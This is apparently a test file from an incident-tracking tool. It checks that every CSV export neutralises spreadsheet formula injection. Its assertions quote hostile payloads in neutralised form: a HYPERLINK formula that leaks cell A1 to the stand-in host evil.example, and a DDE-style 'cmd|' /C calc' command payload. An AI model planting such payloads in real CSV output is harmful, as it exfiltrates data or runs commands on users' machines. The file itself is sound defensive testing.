import { strict as assert } from 'node:assert';
import { spawnSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { csvCell } from '../../../../src/core/insights/csvCell';
import { INSIGHT_CHARTS, insightsCsv, insightsData } from '../../../../src/core/insights/insightsView';
import { REPO_ROOT, TempWorkspace } from '../../../support/workspace';

const FIXTURE = join(REPO_ROOT, 'test', 'fixtures', 'hostile', 'csv-formula', 'INC-902.yaml');
const NOW = Date.parse('2026-11-26T12:00:00Z');

/** RFC 4180 cells of a CSV text (quotes unescaped), as a spreadsheet reads them. */
function cells(csv: string): string[] {
  const out: string[] = [];
  let cur = '';
  let quoted = false;
  for (let i = 0; i < csv.length; i++) {
    const c = csv[i]!;
    if (quoted) {
      if (c === '"' && csv[i + 1] === '"') {
        cur += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cur += c;
    } else if (c === '"') quoted = true;
    else if (c === ',' || c === '\n') {
      out.push(cur);
      cur = '';
    } else cur += c;
  }
  if (cur) out.push(cur);
  return out;
}

/** A cell a spreadsheet would run as a formula. */
const FORMULA = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

function assertNoFormula(csv: string, what: string, expectNeutralised: number): void {
  const all = cells(csv);
  assert.deepEqual(
    all.filter((c) => FORMULA.test(c)),
    [],
    `${what}: a cell starts like a formula`,
  );
  assert.ok(all.filter((c) => /^'[=+\-@\t]/.test(c)).length >= expectNeutralised, `${what}: the hostile cells are there, neutralised:\n${csv}`);
}

describe('CSV formula injection (test/fixtures/hostile/csv-formula)', () => {
  it('csvCell: formula starts get a leading quote and are quoted; numbers stay numbers', () => {
    assert.equal(csvCell('=1+1'), `"'=1+1"`);
    assert.equal(csvCell('+SUM(A1)'), `"'+SUM(A1)"`);
    assert.equal(csvCell('-2+3'), `"'-2+3"`);
    assert.equal(csvCell('@cmd'), `"'@cmd"`);
    assert.equal(csvCell('\t=x'), `"'\t=x"`);
    assert.equal(csvCell('\r=x'), `"'\r=x"`);
    assert.equal(csvCell('＝1+1'), `"'＝1+1"`);
    assert.equal(csvCell('=HYPERLINK("a","b")'), `"'=HYPERLINK(""a"",""b"")"`);
    assert.equal(csvCell(-5), '-5');
    assert.equal(csvCell('a,b'), '"a,b"');
    assert.equal(csvCell('src/payments/checkout.ts'), 'src/payments/checkout.ts');
    assert.equal(csvCell(undefined), '');
  });

  describe('every CSV the product writes', () => {
    let ws: TempWorkspace;
    const cli = (...args: string[]) =>
      spawnSync(process.execPath, [join(REPO_ROOT, 'dist', 'cli.js'), ...args], {
        cwd: ws.root,
        encoding: 'utf8',
        env: { ...process.env, INCIDENT_LENS_NOW: '2026-11-26T12:00:00Z' },
      });
    before(() => {
      ws = new TempWorkspace(true);
      ws.write('.incidents/INC-902.yaml', readFileSync(FIXTURE, 'utf8'));
    });
    after(() => ws.dispose());

    it('metrics --by system --format csv (real process)', () => {
      const r = cli('metrics', '--by', 'system', '--format', 'csv');
      assert.equal(r.status, 0, r.stderr);
      assertNoFormula(r.stdout, 'metrics', 1);
      assert.match(r.stdout, /^"'=HYPERLINK\(""https:\/\/evil\.example\/\?leak=""&A1,""Open report""\)",1,/m);
    });

    it('hotspots --format csv (real process)', () => {
      const r = cli('hotspots', '--format', 'csv', '--limit', '50');
      assert.equal(r.status, 0, r.stderr);
      assertNoFormula(r.stdout, 'hotspots', 3);
      assert.match(r.stdout, /^file,"'@SUM\(1\+1\)\+cmd\|' \/C calc'!A0\.ts",/m);
    });

    it('Insights "Copy as CSV", every chart', async () => {
      const index = await ws.index();
      const data = insightsData(index, {}, NOW);
      for (const chart of INSIGHT_CHARTS) assertNoFormula(insightsCsv(data, chart), chart, chart === 'hotspots' ? 3 : 0);
    });
  });
});
